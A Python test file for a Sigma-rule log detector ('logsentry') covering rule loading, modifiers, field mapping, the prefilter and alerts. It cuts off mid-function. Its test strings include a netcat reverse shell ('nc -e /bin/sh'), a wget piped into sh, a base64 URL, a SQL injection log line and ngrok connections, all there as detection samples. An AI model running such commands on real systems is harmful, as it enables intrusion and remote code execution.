"""Sigma rules: loading with pySigma, the detection language in memory, field and log
source mapping, the prefilter, alerts, and the commands that show them.

Every rule here is written for these tests (tests/fixtures/sigma and inline)."""

from __future__ import annotations

import base64
import os
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC
from pathlib import Path
from typing import Any

import pytest
import structlog

from logsentry.cli import main
from logsentry.core.event import Event
from logsentry.detect.config import DetectionConfig
from logsentry.detect.detector import Detector
from logsentry.detect.sigma import prefilter as prefilter_module
from logsentry.detect.sigma.config import SigmaConfig
from logsentry.detect.sigma.load import load_sigma
from logsentry.detect.sigma.prefilter import Prefilter
from logsentry.detect.sigma.ruleset import SigmaRuleSet
from logsentry.envelope import EnvelopeParser

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "sigma"
PARSER = EnvelopeParser(tz=UTC)


@pytest.fixture(autouse=True)
def _logs_back_to_defaults() -> Iterator[None]:
    """main() points the logs at the stderr of its test, which pytest closes after it:
    later tests' logs (the memory cap's warning) must not go there."""
    yield
    structlog.reset_defaults()


SQLI_LINE = ('203.0.113.9 - - [30/Sep/2021:11:11:10 +0200] '
             '"GET /item.php?id=1%20UNION%20SELECT%20pass HTTP/1.1" 200 162 "-" "curl/7.68.0"')


def _ruleset(tmp_path: Path, detection: str, logsource: str = "product: linux",
             config: SigmaConfig | None = None, extra: str = "") -> SigmaRuleSet:
    """One rule with this detection (YAML, indented by 4) in a fresh folder."""
    folder = tmp_path / "rules"
    folder.mkdir(exist_ok=True)
    (folder / "rule.yml").write_text(
        "title: Test rule\nid: 9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d\n"
        f"logsource:\n    {logsource}\n{extra}detection:\n{detection}\nlevel: medium\n")
    loaded = load_sigma(config or SigmaConfig(), [folder])
    assert not loaded.skipped, loaded.skipped
    return SigmaRuleSet(loaded)


def _event(message: str = "", action: str = "other", **fields: Any) -> Event:
    return Event(message=message, action=action,
                 fields={name.replace("__", "."): value for name, value in fields.items()})


def _matches(rules: SigmaRuleSet, event: Event) -> bool:
    return rules.matches(event) == [0]


# -- loading -----------------------------------------------------------------------


def test_usable_rules_load_and_unusable_ones_are_skipped_with_file_and_reason() -> None:
    loaded = load_sigma(SigmaConfig(), [FIXTURES])
    assert sorted(spec.rule.title for spec in loaded.rules) == [
        "Download piped into a shell", "SQL injection keywords in a query string",
        "SSH server key exchange failure words"]
    reasons = {Path(s.path).name: s.reason for s in loaded.skipped}
    assert reasons["broken_modifier.yml"] == "Unknown modifier 'sparkles'"
    assert "ps_script" in reasons["unknown_category.yml"]
    assert reasons["not_yaml.yml"].startswith("cannot read:")
    assert reasons["correlation.yml"].startswith(
        "value_sum over several fields: the specification gives a metric of several fields "
        "no meaning")


def test_a_missing_sigma_folder_is_a_configuration_error(tmp_path: Path) -> None:
    from logsentry.core.errors import ConfigError

    with pytest.raises(ConfigError, match="not found"):
        load_sigma(SigmaConfig(rules=[str(tmp_path / "nope")]))


def test_an_invalid_python_regex_skips_the_rule_not_the_others(tmp_path: Path) -> None:
    folder = tmp_path / "r"
    folder.mkdir()
    # RE2 (pySigma's check) takes \\Q...\\E, Python's re does not.
    (folder / "a.yml").write_text(
        "title: Quoted\nlogsource: {product: linux}\n"
        "detection:\n  sel:\n    CommandLine|re: '\\Qa.b\\E'\n  condition: sel\n")
    (folder / "b.yml").write_text(
        "title: Fine\nlogsource: {product: linux}\n"
        "detection:\n  sel:\n    CommandLine|contains: 'nc -e'\n  condition: sel\n")
    loaded = load_sigma(SigmaConfig(), [folder])
    assert [spec.rule.title for spec in loaded.rules] == ["Fine"]
    assert "not valid in Python" in loaded.skipped[0].reason


# -- the detection language ----------------------------------------------------------


def test_a_map_needs_every_field_and_a_list_any_value(tmp_path: Path) -> None:
    rules = _ruleset(tmp_path, """
    sel:
        User: root
        CommandLine:
            - 'id'
            - 'whoami'
    condition: sel""")
    assert _matches(rules, _event(user__name="root", process__command_line="WHOAMI"))
    assert not _matches(rules, _event(user__name="bob", process__command_line="whoami"))
    assert not _matches(rules, _event(user__name="root", process__command_line="whoami -a"))


def test_a_list_of_maps_holds_when_one_map_does(tmp_path: Path) -> None:
    rules = _ruleset(tmp_path, """
    sel:
        - User: root
          CommandLine: id
        - User: admin
    condition: sel""")
    assert _matches(rules, _event(user__name="admin"))
    assert _matches(rules, _event(user__name="root", process__command_line="id"))
    assert not _matches(rules, _event(user__name="root", process__command_line="ls"))


def test_keywords_search_the_raw_message(tmp_path: Path) -> None:
    rules = _ruleset(tmp_path, """
    keywords:
        - 'segfault at'
        - 'stack smashing detected'
    condition: keywords""")
    assert _matches(rules, _event("kernel: app[12]: SEGFAULT AT 0 ip 0000 sp 0000"))
    assert not _matches(rules, _event("kernel: all fine"))


def test_the_condition_grammar(tmp_path: Path) -> None:
    rules = _ruleset(tmp_path, """
    sel_a:
        CommandLine|contains: alpha
    sel_b:
        CommandLine|contains: beta
    other:
        User: root
    filter:
        CommandLine|contains: gamma
    condition: (1 of sel_* and not filter) or (all of sel_* and other)""")
    assert _matches(rules, _event(process__command_line="alpha"))
    assert not _matches(rules, _event(process__command_line="alpha gamma"))
    assert _matches(rules, _event(process__command_line="alpha beta gamma", user__name="root"))
    assert not _matches(rules, _event(process__command_line="delta", user__name="root"))


def test_all_of_them_and_1_of_them(tmp_path: Path) -> None:
    every = _ruleset(tmp_path, """
    one:
        CommandLine|contains: alpha
    two:
        User: root
    condition: all of them""")
    assert _matches(every, _event(process__command_line="alpha", user__name="root"))
    assert not _matches(every, _event(process__command_line="alpha", user__name="bob"))
    some = _ruleset(tmp_path, """
    one:
        CommandLine|contains: alpha
    two:
        User: root
    condition: 1 of them""")
    assert _matches(some, _event(process__command_line="x", user__name="root"))


def test_a_list_of_plain_strings_holds_when_one_does(tmp_path: Path) -> None:
    """A list of values (an OR of one field's tests, merged into one) holds exactly when one
    of its values would alone: equality, prefix, suffix, substring, case-insensitively,
    on a list field's items and numbers as text; wildcards inside and `cased` apart."""
    rules = _ruleset(tmp_path, """
    sel:
        CommandLine:
            - 'id'
            - 'curl*'
            - '*.sh'
            - '*base64 -d*'
            - 'py*-c*import'
            - '*/tmp/?.bin'
            - ''
    sel_cased:
        CommandLine|cased: 'Secret'
    condition: 1 of sel*""")
    holds = ["ID", "curl -s x", "bash /tmp/X.SH", "echo a | BASE64 -d | sh", "python -c import",
             "run /tmp/a.bin", "", "Secret"]
    fails = ["idx", "xcurl", "a.sh.bak", "base64", "python import -c", "/tmp/ab.bin", "secret",
             "SECRET"]
    for text in holds:
        assert _matches(rules, _event(process__command_line=text)), text
    for text in fails:
        assert not _matches(rules, _event(process__command_line=text)), text
    assert not _matches(rules, _event())
    assert _matches(rules, _event(process__command_line=["x", "a.sh"]))
    ports = _ruleset(tmp_path, """
    sel:
        DestinationPort: ['4444', '1337']
    keywords:
        - 'Failed password'
        - 'authentication failure'
        - '*invalid user*'
    condition: sel or keywords""")
    assert _matches(ports, _event(destination__port=4444))
    assert not _matches(ports, _event(destination__port=44444))
    assert _matches(ports, _event("sshd: Invalid User bob"))
    assert not _matches(ports, _event("sshd: accepted password"))


@pytest.mark.parametrize(
    ("test", "value", "expected"),
    [
        ("CommandLine|contains: 'wget '", "/usr/bin/WGET http://x", True),
        ("CommandLine|startswith: 'sudo '", "sudo -i", True),
        ("CommandLine|startswith: 'sudo '", "echo sudo -i", False),
        ("CommandLine|endswith: '.sh'", "bash /tmp/X.SH", True),
        ("CommandLine|endswith: '.sh'", "bash /tmp/x.sh.bak", False),
        ("CommandLine|contains|all: ['nc', '-e']", "nc -e /bin/sh 1.2.3.4", True),
        ("CommandLine|contains|all: ['nc', '-e']", "nc 1.2.3.4", False),
        ("CommandLine|re: 'chmod [0-7]*7 '", "chmod 777 /tmp/x", True),
        ("CommandLine|re: 'CHMOD'", "chmod 777 /tmp/x", False),
        ("CommandLine|re|i: 'CHMOD'", "chmod 777 /tmp/x", True),
        ("CommandLine: '*/tmp/?.sh'", "sh /tmp/a.sh", True),
        ("CommandLine: '*/tmp/?.sh'", "sh /tmp/ab.sh", False),
        ("CommandLine: 'python*-c*import'", "python3 -c 'import os' import", True),
        ("CommandLine: 'python*-c*import'", "python3 -c 'import os' x", False),
        ("CommandLine|cased: 'Secret'", "Secret", True),
        ("CommandLine|cased: 'Secret'", "secret", False),
        ("CommandLine|base64: 'curl'", "echo Y3VybA== | base64 -d", False),
        ("CommandLine|base64: 'curl'", "Y3VybA==", True),
        ("CommandLine|windash|contains: ' -enc '", "powershell /enc AAA", True),
        ("CommandLine|windash|contains: ' -enc '", "powershell \u2013enc AAA", True),
        ("CommandLine|windash|contains: ' -enc '", "powershell enc AAA", False),
    ],
)
def test_value_modifiers_and_wildcards(tmp_path: Path, test: str, value: str,
                                       expected: bool) -> None:
    rules = _ruleset(tmp_path, f"    sel:\n        {test}\n    condition: sel")
    assert _matches(rules, _event(process__command_line=value)) is expected


def test_base64offset_finds_the_text_at_any_alignment(tmp_path: Path) -> None:
    rules = _ruleset(tmp_path, """
    sel:
        CommandLine|base64offset|contains: 'http://'
    condition: sel""")
    for prefix in ("", "a", "ab"):
        encoded = base64.b64encode(f"{prefix}http://evil/x".encode()).decode()
        assert _matches(rules, _event(process__command_line=f"sh -c {encoded}")), prefix
    assert not _matches(rules, _event(process__command_line="sh -c aGVsbG8="))


def test_cidr_numbers_and_comparisons(tmp_path: Path) -> None:
    rules = _ruleset(tmp_path, """
    sel:
        c-ip|cidr: '192.0.2.0/24'
        sc-status|gte: 500
        cs-bytes|lt: 100
    condition: sel""", logsource="category: webserver")
    web = {"url__original": "/", "http__request__body__bytes": 10}
    assert _matches(rules, _event(source__ip="192.0.2.7", http__response__status_code=503,
                                  **web))
    assert not _matches(rules, _event(source__ip="192.0.3.7",
                                      http__response__status_code=503, **web))
    assert not _matches(rules, _event(source__ip="192.0.2.7",
                                      http__response__status_code=404, **web))
    equal = _ruleset(tmp_path, """
    sel:
        sc-status: 404
    condition: sel""", logsource="category: webserver")
    assert _matches(equal, _event(url__original="/", http__response__status_code=404))
    assert _matches(equal, _event(url__original="/", http__response__status_code="404"))


def test_exists_null_and_fieldref(tmp_path: Path) -> None:
    exists = _ruleset(tmp_path, """
    sel:
        ParentImage|exists: true
        ParentCommandLine: null
    condition: sel""")
    assert _matches(exists, _event(process__parent__executable="/bin/sh"))
    assert not _matches(exists, _event(process__parent__executable="/bin/sh",
                                       process__parent__command_line="sh -c x"))
    assert not _matches(exists, _event())
    same = _ruleset(tmp_path, """
    sel:
        User|fieldref: TargetUser
    condition: sel""")
    assert _matches(same, _event(user__name="Bob", TargetUser="bob"))
    assert not _matches(same, _event(user__name="bob", TargetUser="alice"))
    assert not _matches(same, _event(user__name="bob"))


def test_a_list_field_holds_when_one_item_does(tmp_path: Path) -> None:
    rules = _ruleset(tmp_path, """
    sel:
        type: SYSCALL
        a1: '-c'
    condition: sel""", logsource="product: linux\n    service: auditd")
    event = _event(auditd__message_type="syscall", process__args=["sh", "-c", "id"])
    assert _matches(rules, event)
    event.fields["process.args"] = ["sh", "-x"]
    assert not _matches(rules, event)


# -- mapping --------------------------------------------------------------------------


def test_webserver_fields_map_to_the_access_log_envelope(tmp_path: Path) -> None:
    rules = _ruleset(tmp_path, """
    sel:
        cs-method: GET
        cs-uri-stem|endswith: '.php'
        cs-uri-query|contains: 'union'
        cs-user-agent|startswith: 'curl/'
        sc-status: 200
    condition: sel""", logsource="category: webserver")
    assert _matches(rules, PARSER.parse(SQLI_LINE, 0.0))
    assert not _matches(rules, PARSER.parse(SQLI_LINE.replace("?id=1%20UNION", "?x="), 0.0))


@pytest.mark.parametrize(("path", "matched"), [
    ("/item.php?id=1", True), ("/a.b/item.PHP", True), ("/item.php/", False),
    ("/item", False), ("/.php", False), ("/x.phps?a.php", False)])
def test_the_url_extension_is_cut_from_the_url(tmp_path: Path, path: str,
                                                matched: bool) -> None:
    """`c-uri-extension` (ECS `url.extension`, no dot): the access log gives only the URL."""
    rules = _ruleset(tmp_path, "    sel:\n        c-uri-extension: php\n    condition: sel",
                     logsource="category: proxy")
    line = SQLI_LINE.replace("/item.php?id=1%20UNION%20SELECT%20pass", path)
    assert _matches(rules, PARSER.parse(line, 0.0)) is matched
    assert _batch_matches(rules, [PARSER.parse(line, 0.0)]) == ([[0]] if matched else [[]])


def test_the_logsource_must_fit_the_event(tmp_path: Path) -> None:
    rules = _ruleset(tmp_path, """
    keywords:
        - 'authentication failure'
    condition: keywords""", logsource="product: linux\n    service: sudo")
    sudo = PARSER.parse("Jan  1 10:00:00 h1 sudo: pam_unix(sudo:auth): authentication "
                        "failure; logname=bob", 0.0)
    other = PARSER.parse("Jan  1 10:00:00 h1 su: pam_unix(su:auth): authentication "
                         "failure; logname=bob", 0.0)
    assert _matches(rules, sudo)
    assert not _matches(rules, other)
    web = _ruleset(tmp_path, """
    keywords:
        - 'union'
    condition: keywords""", logsource="category: webserver")
    assert _matches(web, PARSER.parse(SQLI_LINE, 0.0))
    assert not _matches(web, PARSER.parse("Jan  1 10:00:00 h1 app: union select", 0.0))


def _sysmon_line(event_id: int, data: dict[str, str], provider: str = "Linux-Sysmon") -> str:
    """A Sysmon record as Sysmon for Linux writes it to syslog (or, with the Windows
    provider, as a forwarder writes a Windows one)."""
    items = "".join(f'<Data Name="{name}">{value}</Data>' for name, value in data.items())
    channel = ("Linux-Sysmon/Operational" if provider == "Linux-Sysmon"
               else "Microsoft-Windows-Sysmon/Operational")
    return (f'May  1 10:00:00 web01 sysmon: <Event><System><Provider Name="{provider}"/>'
            f"<EventID>{event_id}</EventID><EventRecordID>42</EventRecordID>"
            f"<Channel>{channel}</Channel><Computer>web01</Computer></System>"
            f"<EventData>{items}</EventData></Event>")


def test_sysmon_categories_match_linux_sysmon_records(tmp_path: Path) -> None:
    files = _ruleset(tmp_path, """
    sel:
        Image|endswith: '/wget'
        TargetFilename|startswith: '/tmp/'
    condition: sel""", logsource="product: linux\n    category: file_event")
    created = {"Image": "/usr/bin/wget", "TargetFilename": "/tmp/x.sh"}
    assert _matches(files, PARSER.parse(_sysmon_line(11, created), 0.0))
    # A deleted file is another category; a Windows record is not a Linux one.
    assert not _matches(files, PARSER.parse(_sysmon_line(23, created), 0.0))
    assert not _matches(files, PARSER.parse(
        _sysmon_line(11, created, provider="Microsoft-Windows-Sysmon"), 0.0))
    connections = _ruleset(tmp_path, """
    sel:
        Initiated: 'true'
        DestinationHostname|endswith: '.ngrok.io'
    condition: sel""", logsource="product: linux\n    category: network_connection")
    assert _matches(connections, PARSER.parse(_sysmon_line(3, {
        "Image": "/bin/bash", "Initiated": "true", "DestinationHostname": "x.ngrok.io"}), 0.0))
    windows = _ruleset(tmp_path, """
    sel:
        Image|endswith: '/wget'
    condition: sel""", logsource="product: windows\n    category: file_event")
    assert not _matches(windows, PARSER.parse(_sysmon_line(11, created), 0.0))


def test_services_and_program_products_read_the_built_in_table(tmp_path: Path) -> None:
    auth = _ruleset(tmp_path, """
    keywords:
        - 'Failed password'
    condition: keywords""", logsource="product: linux\n    service: auth")
    assert _matches(auth, PARSER.parse("Jan  1 10:00:00 h1 sshd[7]: Failed password for "
                                       "root from 203.0.113.9 port 22 ssh2", 0.0))
    assert not _matches(auth, PARSER.parse("Jan  1 10:00:00 h1 app: Failed password", 0.0))
    modsecurity = _ruleset(tmp_path, """
    keywords:
        - 'ModSecurity: Access denied'
    condition: keywords""", logsource="product: modsecurity")
    assert _matches(modsecurity, PARSER.parse(
        "Jan  1 10:00:00 h1 httpd[9]: ModSecurity: Access denied with code 403", 0.0))
    assert not _matches(modsecurity, PARSER.parse(
        "Jan  1 10:00:00 h1 app: ModSecurity: Access denied with code 403", 0.0))


def test_the_configuration_adds_fields_and_services(tmp_path: Path) -> None:
    config = SigmaConfig(fields={"TenantName": "organization.name"},
                         services={"myapp": ["myapp-worker"]})
    rules = _ruleset(tmp_path, """
    sel:
        TenantName: acme
    condition: sel""", logsource="product: linux\n    service: myapp", config=config)
    assert _matches(rules, _event(process__name="myapp-worker", organization__name="ACME"))
    assert not _matches(rules, _event(process__name="myapp", organization__name="ACME"))


def test_unmapped_names_read_ecs_fields_directly(tmp_path: Path) -> None:
    rules = _ruleset(tmp_path, """
    sel:
        source.ip|cidr: 198.51.100.0/24
    condition: sel""")
    assert _matches(rules, _event(source__ip="198.51.100.5"))


# -- prefilter ------------------------------------------------------------------------


def _templated(folder: Path, count: int) -> None:
    folder.mkdir()
    for n in range(count):
        (folder / f"r{n}.yml").write_text(
            f"title: Tool {n}\nlogsource: {{product: linux}}\n"
            f"detection:\n  sel:\n    CommandLine|contains: 'tool{n:04d}x'\n"
            f"  condition: sel\n")


def test_only_rules_whose_literals_occur_are_evaluated(tmp_path: Path) -> None:
    _templated(tmp_path / "many", 200)
    rules = SigmaRuleSet(load_sigma(SigmaConfig(), [tmp_path / "many"]))
    assert rules.prefilter.always == ()
    event = _event("run tool0042x now", process__command_line="run tool0042x now")
    index = [rule.title for rule in rules.rules].index("Tool 42")
    assert list(rules.prefilter.candidates(event)) == [index]
    assert rules.matches(event) == [index]
    assert list(rules.prefilter.candidates(_event("nothing here"))) == []


def test_both_literal_matchers_name_the_same_rules(tmp_path: Path) -> None:
    """Hyperscan (where installed) and pyahocorasick find the same literals, in plain and
    non-ASCII text and in text that is not valid UTF-8 once encoded (a lone surrogate)."""
    pytest.importorskip("hyperscan")
    _templated(tmp_path / "many", 50)
    (tmp_path / "many" / "greek.yml").write_text(
        "title: Greek\nlogsource: {product: linux}\n"
        "detection:\n  sel:\n    CommandLine|contains: 'εας'\n  condition: sel\n")
    loaded = load_sigma(SigmaConfig(), [tmp_path / "many"])
    needs = [spec.need for spec in loaded.rules]
    fast, plain = Prefilter(needs, "hyperscan"), Prefilter(needs, "pyahocorasick")
    assert (fast.matcher, plain.matcher) == ("hyperscan", "pyahocorasick")
    messages = ["run tool0042x and TOOL0007X now", "nothing here", "ΟΔΥΣΣΕΑΣ tool0001x",
                "tool0003x \ud800 tool0004x", "tool00", "x" * 10_000 + "tool0049x"]
    found = [list(fast.found(_event(message))) for message in messages]
    assert found == [list(plain.found(_event(message))) for message in messages]
    assert [len(rules) for rules in found] == [2, 0, 2, 2, 0, 1]


@pytest.mark.parametrize("scan_bytes", [1 << 20, 64])
def test_a_batch_finds_what_each_line_finds(tmp_path: Path, scan_bytes: int,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """One scan of a batch's lines names, line by line, the rules that a scan of each line
    names: non-ASCII and surrogate text, repeated literals, a line of nothing but one
    literal (more occurrences than a batch reports: scanned line by line), NULs; also
    when the batch's text is scanned in several parts (`scan_bytes` at a time)."""
    monkeypatch.setattr(prefilter_module, "_BATCH_SCAN_BYTES", scan_bytes)
    _templated(tmp_path / "many", 50)
    (tmp_path / "many" / "greek.yml").write_text(
        "title: Greek\nlogsource: {product: linux}\n"
        "detection:\n  sel:\n    CommandLine|contains: 'εας'\n  condition: sel\n")
    loaded = load_sigma(SigmaConfig(), [tmp_path / "many"])
    needs = [spec.need for spec in loaded.rules]
    messages = ["run tool0042x and TOOL0007X now", "nothing here", "ΟΔΥΣΣΕΑΣ tool0001x",
                "tool0003x \ud800 tool0004x", "tool00", "x" * 10_000 + "tool0049x",
                "tool0005x\x00tool0006x", "", "İ" * 50 + "tool0008x tool0008x"]
    events = [_event(message, process__args=["a", "tool0009x"], process__pid=7)
              for message in messages]
    flood = [_event("tool0010x" * 900)] * 3
    for matcher in ("auto", "pyahocorasick"):
        prefilter = Prefilter(needs, matcher)
        for batch in (events, flood + events, []):
            assert [list(found) for found in prefilter.found_batch(batch)] == [
                list(prefilter.found(event)) for event in batch]
    assert sum(bool(found) for found in Prefilter(needs).found_batch(events)) == 9


def test_matches_are_in_rule_order_across_log_sources(tmp_path: Path) -> None:
    """Rules the prefilter cannot narrow are grouped by log source; what they match is
    still told in rule order."""
    folder = tmp_path / "order"
    folder.mkdir()
    rules = [("a", "category: webserver", "cs-uri-query|contains: 'needle'"),
             ("b", "product: linux", "cs-uri-query|re: 'id=[0-9]+'"),
             ("c", "category: webserver", "cs-uri-query|re: 'id=1'")]
    for name, logsource, test in rules:
        (folder / f"{name}.yml").write_text(
            f"title: Rule {name}\nlogsource: {{{logsource}}}\n"
            f"detection:\n  sel:\n    {test}\n  condition: sel\n")
    ruleset = SigmaRuleSet(load_sigma(SigmaConfig(), [folder]))
    assert [rule.title for rule in ruleset.rules] == ["Rule a", "Rule b", "Rule c"]
    event = PARSER.parse(SQLI_LINE, 0.0)
    assert ruleset.matches(event) == [1, 2]
    assert ruleset.matches(event, ruleset.prefilter.found_batch([event])[0]) == [1, 2]


def test_a_batch_runs_narrowless_rules_on_the_lines_of_their_log_source(
        tmp_path: Path) -> None:
    """Rules the prefilter cannot narrow (a regex) run on the lines their log source holds
    for, among lines that the prefilter passes over, in line order with the others."""
    folder = tmp_path / "narrowless"
    folder.mkdir()
    (folder / "a.yml").write_text(
        "title: Numeric id\nid: 00000000-0000-4000-8000-00000000000a\n"
        "logsource: {category: webserver}\n"
        "detection:\n  sel:\n    cs-uri-query|re: 'id=[0-9]+'\n  condition: sel\n")
    (folder / "b.yml").write_text(
        "title: Key exchange\nid: 00000000-0000-4000-8000-00000000000b\n"
        "logsource: {product: linux}\n"
        "detection:\n  keywords:\n    - 'matching key exchange'\n  condition: keywords\n")
    config = DetectionConfig(pack="none", sigma=SigmaConfig(rules=[str(folder)]))
    detector = Detector.from_config(config, None)
    ssh = "Jan  1 10:00:00 web1 sshd[1]: no matching KEY exchange method"
    lines = ["Jan  1 10:00:00 web1 kernel: nothing", SQLI_LINE,
             SQLI_LINE.replace("?id=1", "?x=y"), ssh]
    events = [PARSER.parse(line, 0.0) for line in lines]
    for number, event in enumerate(events):
        event.line = number
    alerts = detector.process(events)
    assert [(alert.rule_id[-1], alert.events[0]["line"]) for alert in alerts] == [
        ("a", 1), ("b", 3)]


def test_the_prefilter_never_hides_a_match(tmp_path: Path) -> None:
    """Every rule evaluated on every event gives the same matches as the prefilter's pick."""
    loaded = load_sigma(SigmaConfig(), [FIXTURES])
    rules = SigmaRuleSet(loaded)
    lines = [SQLI_LINE, "Jan  1 10:00:00 web1 sshd[1]: no matching KEY exchange method",
             '{"ID":"1732600000.125:4410","SYSCALL":{"arch":"0xc000003e","syscall":59,'
             '"SYSCALL":"execve","success":"yes","exit":0,"pid":4,"ppid":3,"uid":0,"UID":"root",'
             '"comm":"wget","exe":"/usr/bin/wget"},"EXECVE":{"argc":3,'
             '"ARGV":["wget","-qO-","http://x/a.sh | sh"]}}',
             "Jan  1 10:00:00 web1 kernel: nothing"]
    events = [PARSER.parse(line, 0.0) for line in lines]
    # A decoded record's fields need not be in its raw text (auditd hex-encodes arguments).
    events.append(_event("type=EXECVE msg=audit(1.0:2): argc=2 a0=77676574 a1=7C207368",
                         "process_started", process__executable="/usr/bin/wget",
                         process__command_line="wget | sh"))
    for event in events:
        brute = [i for i, spec in enumerate(loaded.rules)
                 if (spec.logsource is None or spec.logsource(event)) and spec.predicate(event)]
        assert rules.matches(event) == brute
    assert sum(bool(rules.matches(event)) for event in events) == 4


def test_a_field_cut_from_the_message_is_still_searched_when_lowering_differs(
        tmp_path: Path) -> None:
    """The prefilter leaves out field values found in the message, but not a non-ASCII
    one: a final sigma lower-cases differently in the field and inside the message."""
    rules = _ruleset(tmp_path, "    sel:\n        User|contains: 'εας'\n    condition: sel")
    event = _event("login ΟΔΥΣΣΕΑΣΑ", user__name="ΟΔΥΣΣΕΑΣ")
    assert _matches(rules, event)
    # An ASCII value in the message is found through the message.
    (tmp_path / "a").mkdir()
    ascii_rules = _ruleset(tmp_path / "a", "    sel:\n        User|contains: 'seas'\n"
                                         "    condition: sel")
    assert _matches(ascii_rules, _event("login ODYSSEAS from x", user__name="ODYSSEAS"))


def _batch_matches(rules: SigmaRuleSet, events: list[Event]) -> list[list[int]]:
    """What the detector's batch path matches: one scan, then each event's rules."""
    founds, alone = rules.prefilter.scan_batch(events)
    return [rules.matches(event, found, in_message)
            for event, found, in_message in zip(events, founds, alone, strict=True)]


def test_a_batch_searches_the_message_alone_when_it_holds_every_field(tmp_path: Path) -> None:
    """Field values cut from an ASCII message are left out of the batch's text; a value
    that is not in the message, or a non-ASCII message, makes the whole text."""
    pytest.importorskip("hyperscan")
    _templated(tmp_path / "many", 20)
    rules = SigmaRuleSet(load_sigma(SigmaConfig(), [tmp_path / "many"]))
    events = [_event("run tool0001x as bob", user__name="bob", process__pid=7),
              _event("run it as bob", process__command_line="tool0002x"),
              _event("run tool0003x as Ödön", user__name="Ödön")]
    founds, alone = rules.prefilter.scan_batch(events)
    assert alone == [True, False, False]
    assert [len(found) for found in founds] == [1, 1, 1]


def test_a_keyword_found_only_in_a_field_does_not_decide_a_keyword_rule(
        tmp_path: Path) -> None:
    """A keyword rule holds on its literal found in the message without being evaluated,
    but a literal found in a field value alone is no keyword match."""
    rules = _ruleset(tmp_path, "    keywords:\n        - 'session hijack'\n"
                               "        - '*token replay*'\n    condition: keywords")
    assert rules.loaded.rules[0].decided_by_literal
    events = [_event("alert: SESSION HIJACK seen", user__name="alice"),
              _event("user logged in", user__name="session hijack"),
              _event("nothing", process__name="token replay")]
    assert _batch_matches(rules, events) == [[0], [], []]
    assert [rules.matches(event) for event in events] == [[0], [], []]


@pytest.mark.parametrize("detection", [
    "    sel:\n        CommandLine|contains: 'session hijack'\n    condition: sel",
    "    keywords:\n        - 'session*hijack'\n    condition: keywords",
    "    keywords:\n        - 'session?hijack'\n    condition: keywords",
    "    keywords:\n        '|cased':\n            - 'session hijack'\n"
    "    condition: keywords",
    "    keywords:\n        - 'session hijack'\n    filter:\n        User: root\n"
    "    condition: keywords and not filter",
])
def test_only_plain_keywords_are_decided_by_their_literal(tmp_path: Path,
                                                          detection: str) -> None:
    assert not _ruleset(tmp_path, detection).loaded.rules[0].decided_by_literal


def test_integer_fields_are_searched_when_a_literal_is_digits(tmp_path: Path) -> None:
    """A field's integer (a port) is left out of the batch's text only when no literal
    could be found in its digits."""
    pytest.importorskip("hyperscan")
    rules = _ruleset(tmp_path, "    sel:\n        DestinationPort|contains: '4444'\n"
                               "    condition: sel")
    events = [_event("connection to the listener", destination__port=4444),
              _event("connection to the listener", destination__port=80)]
    assert _batch_matches(rules, events) == [[0], []]


# -- alerts and the detector ----------------------------------------------------------------


def test_alerts_carry_level_tags_title_description_id_and_events(tmp_path: Path) -> None:
    config = DetectionConfig(pack="none", sigma=SigmaConfig(rules=[str(FIXTURES)]))
    detector = Detector.from_config(config, None)
    alerts = detector.process([PARSER.parse(SQLI_LINE, 0.0)])
    assert len(alerts) == 1
    alert = alerts[0]
    assert alert.rule_id == "5f0c1a52-8d1e-4a61-9b1c-0e2f3a4b5c61"
    assert alert.severity == "high"
    assert alert.techniques == ["T1190"]
    assert "attack.initial-access" in alert.tags
    assert alert.message.startswith("Sigma: SQL injection keywords in a query string: Union")
    doc = alert.to_ecs()
    assert doc["logsentry"]["events"][0]["url"]["original"].startswith("/item.php")
    assert doc["rule"]["name"] == "SQL injection keywords in a query string"


def test_sigma_rule_state_is_saved_and_bounded_like_native_state(tmp_path: Path) -> None:
    config = DetectionConfig(pack="none", sigma=SigmaConfig(rules=[str(FIXTURES)]),
                             memory_cap_mb=1)
    detector = Detector.from_config(config, tmp_path)
    events = [PARSER.parse(SQLI_LINE.replace("203.0.113.9", f"198.51.{n // 256}.{n % 256}"),
                           0.0) for n in range(20_000)]
    alerts = detector.process(events)
    assert len(alerts) == 20_000  # one group per client address
    assert detector.memory_bytes <= detector.memory_cap_bytes
    assert detector.evictions > 0
    detector.save_state()
    again = Detector.from_config(config, tmp_path)
    assert again.group_count == detector.group_count
    # A restored group is still suppressed: the same client does not alert again.
    last = events[-1]
    assert again.process([last]) == []


def test_analyze_with_sigma_prints_the_alerts(tmp_path: Path) -> None:
    log = tmp_path / "access.log"
    log.write_text(SQLI_LINE + "\n")
    (tmp_path / "none.yaml").write_text("")
    result = subprocess.run(
        [sys.executable, "-m", "logsentry.cli", "analyze", "--no-model", "--format", "jsonl",
         "--rules", str(tmp_path / "none.yaml"), "--sigma", str(FIXTURES), str(log)],
        capture_output=True, timeout=120, env=os.environ.copy())
    assert b"5f0c1a52-8d1e-4a61-9b1c-0e2f3a4b5c61" in result.stdout, result.stderr
    assert b"sigma skipped" in result.stderr


# -- commands -----------------------------------------------------------------------------


def test_sigma_test_prints_which_rule_matched_which_line(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    log = tmp_path / "mixed.log"
    log.write_text("Jan  1 10:00:00 web1 sshd[1]: hello\n" + SQLI_LINE + "\n")
    status = main(["sigma", "test", str(FIXTURES / "web_sqli.yml"), str(log),
                   "--model", "never"])
    out = capsys.readouterr().out
    assert status == 0
    assert "      2  5f0c1a52-8d1e-4a61-9b1c-0e2f3a4b5c61  SQL injection" in out
    assert "sshd[1]: hello" not in out
    status = main(["sigma", "test", str(FIXTURES), str(log), "--model", "never"])
    out = capsys.readouterr().out
    assert status == 1  # rules were skipped
    assert "Unknown modifier 'sparkles'" in out


def test_check_config_lists_loaded_and_skipped_sigma_rules(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    config = tmp_path / "config.yaml"
    config.write_text(f"detection:\n  sigma:\n    rules: [{FIXTURES}]\n")
    assert main(["check-config", "--config", str(config)]) == 0
    err = capsys.readouterr().err
    assert "# sigma: 3 rules loaded, 4 skipped" in err
    assert "# sigma loaded: 7d2e9c11-3b4a-4c5d-8e6f-1a2b3c4d5e70 critical" in err
    assert "broken_modifier.yml 'A rule with a modifier that does not exist': Unknown" in err


def test_check_config_warns_of_fields_no_event_carries(
